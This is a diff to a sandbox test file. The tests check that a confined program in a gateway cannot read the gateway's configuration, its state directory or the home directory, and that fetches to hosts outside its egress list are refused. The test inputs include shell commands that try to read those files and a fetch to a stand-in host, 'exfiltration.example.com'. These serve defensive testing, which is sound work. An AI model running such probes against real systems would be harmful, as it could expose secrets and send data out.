@@ -2,7 +2,8 @@ import { execFileSync } from "node:child_process";
 import { existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
-import { join } from "node:path";
+import { homedir } from "node:os";
+import { join, relative, sep } from "node:path";
 import { setTimeout } from "node:timers/promises";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import type { EmbeddedGateway } from "../../../src/hosts/embedded/gateway.ts";
@@ -182,8 +183,13 @@ describe.skipIf(problem !== undefined)("a confined program", () => {
   });
 
   it("reads neither the gateway's state and configuration nor a home", async () => {
-    const { runs } = await run("shell", `cat ${fixture.configFile}; ls ${fixture.stateDir}; ls /root; echo end`);
-    expect(runs[0]!.reply).toBe("agents\nend");
+    const { runs } = await run(
+      "shell",
+      `cat ${fixture.configFile}; ls ${fixture.stateDir}; ls -A ${homedir()}; echo end`,
+    );
+    // The program of the gateway may be installed in it: then the way to it is there.
+    const [way] = relative(homedir(), process.execPath).split(sep);
+    expect(runs[0]!.reply!.split("\n").filter((line) => line !== way)).toEqual(["agents", "end"]);
   });
 
   it("reaches the hosts of its egress alone, and each refused one is on the attempt", async () => {
@@ -209,10 +215,9 @@ describe.skipIf(problem !== undefined)("a confined program", () => {
 
   it("that serves several runs says of a refused host that it was one of them, or none", async () => {
     const ask = `'${process.execPath}' -e 'fetch("http://exfiltration.example.com/").catch(() => {})'`;
-    const delivered = await Promise.all([
-      endedRun(gateway, "confined", { text: `do:run sleep 1; ${ask}` }),
-      endedRun(gateway, "confined", { text: "do:echo hello" }),
-    ]);
+    // The program takes one after the other: whichever it begins with, the other one waits.
+    const both = [1, 2].map(() => endedRun(gateway, "confined", { text: `do:run sleep 1; ${ask}` }));
+    const delivered = await Promise.all(both);
     const refused = {
       kind: "refused-host",
       title: "exfiltration.example.com:80",
